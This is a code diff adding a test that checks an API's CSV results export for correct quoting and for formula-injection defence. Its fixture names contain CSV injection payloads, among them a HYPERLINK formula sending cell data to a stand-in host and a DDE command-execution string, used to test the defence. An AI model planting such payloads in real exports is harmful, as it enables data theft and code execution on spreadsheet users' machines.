@@ -1,6 +1,8 @@
 """A review of the HTTP API against bad requests: every one answers the one JSON error shape
 with its documented status and changes nothing. The real app on a real port, real Redis."""
 
+import csv
+import io
 from collections.abc import AsyncIterator
 from typing import Any
 
@@ -14,6 +16,10 @@ from starlette.routing import Route
 
 from engine.http.app import create_app
 from engine.settings import Settings
+from question_bank.ids import MemberId, ProvinceId, QuestionId, UnitId
+from scoring.attempts import Attempts, DrawnQuestion
+from scoring.profiles import Profile
+from scoring.window import WindowScoring
 from tests.contest_helpers import live_spec, now_ms, setup_org, window_spec
 from tests.http_server import serve_app
 from tests.utils import timeout
@@ -135,3 +141,60 @@ async def test_a_method_not_allowed_names_every_allowed_one(api: Api) -> None:
     # HEAD answers as GET does, without a body.
     head = await api.a.head("/api/banks/b1")
     assert head.status_code == 200 and head.content == b""
+
+
+# ---------------------------------------------------------------- results as CSV
+
+NAMES = {
+    "m1": 'Nguyễn Văn "A", con',
+    "m2": "Trần\nThị B",
+    "m3": '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
+    "m4": "+84 912 345 678",
+    "m5": "-2+3",
+    "m6": "@SUM(A1:A9)",
+    "m7": "\t=1+1",
+}
+
+
+async def _finalized_window(api: Api, key_prefix: str) -> None:
+    now = await now_ms(api.redis)
+    response = await api.a.post("/api/contests", json=_body(window_spec(now, id="wk")))
+    assert response.status_code == 201, response.text
+    for action in ("schedule", "start"):
+        assert (await api.a.post(f"/api/contests/wk/{action}")).status_code == 200
+    attempts = Attempts(api.redis, "wk", prefix=key_prefix)  # type: ignore[arg-type]
+    window = WindowScoring(api.redis, "wk", key_prefix)  # type: ignore[arg-type]
+    draw = [DrawnQuestion(id=QuestionId("q1"), points=10)]
+    for member, name in NAMES.items():
+        unit = "=cmd|' /C calc'!A0" if member == "m3" else "u1"
+        profile = Profile(name=name, province=ProvinceId("hanoi"), unit=UnitId(unit))
+        started = await attempts.start(MemberId(member), profile, draw, duration_ms=600_000)
+        assert started.attempt is not None
+        fraction = 1.0 if member == "m1" else 0.0
+        await window.answer(MemberId(member), 1, QuestionId("q1"), fraction, "a", unit=unit)
+    for action in ("close", "finalize"):
+        assert (await api.a.post(f"/api/contests/wk/{action}")).status_code == 200
+
+
+async def test_results_csv_quotes_and_guards_against_formulas(api: Api, key_prefix: str) -> None:
+    await _finalized_window(api, key_prefix)
+    rows = (await api.a.get("/api/contests/wk/results")).json()
+    # JSON answers the names exactly as given.
+    assert {r["member"]: r["name"] for r in rows} == NAMES
+    response = await api.a.get("/api/contests/wk/results?format=csv")
+    assert response.status_code == 200
+    assert response.headers["content-disposition"] == 'attachment; filename="wk.csv"'
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    assert [r["member"] for r in table] == [r["member"] for r in rows]
+    by_member = {r["member"]: r for r in table}
+    # Commas, quotes and line breaks survive quoting unchanged.
+    assert by_member["m1"]["name"] == NAMES["m1"]
+    assert by_member["m2"]["name"] == NAMES["m2"]
+    # A cell a spreadsheet would run as a formula is shown as text: a leading apostrophe.
+    for member in ("m3", "m4", "m5", "m6", "m7"):
+        assert by_member[member]["name"] == "'" + NAMES[member], member
+    assert by_member["m3"]["unit"] == "'=cmd|' /C calc'!A0"
+    assert by_member["m1"]["unit"] == "u1"
+    # Numbers are left alone.
+    assert by_member["m1"]["score"] == "10" and by_member["m1"]["rank"] == "1"
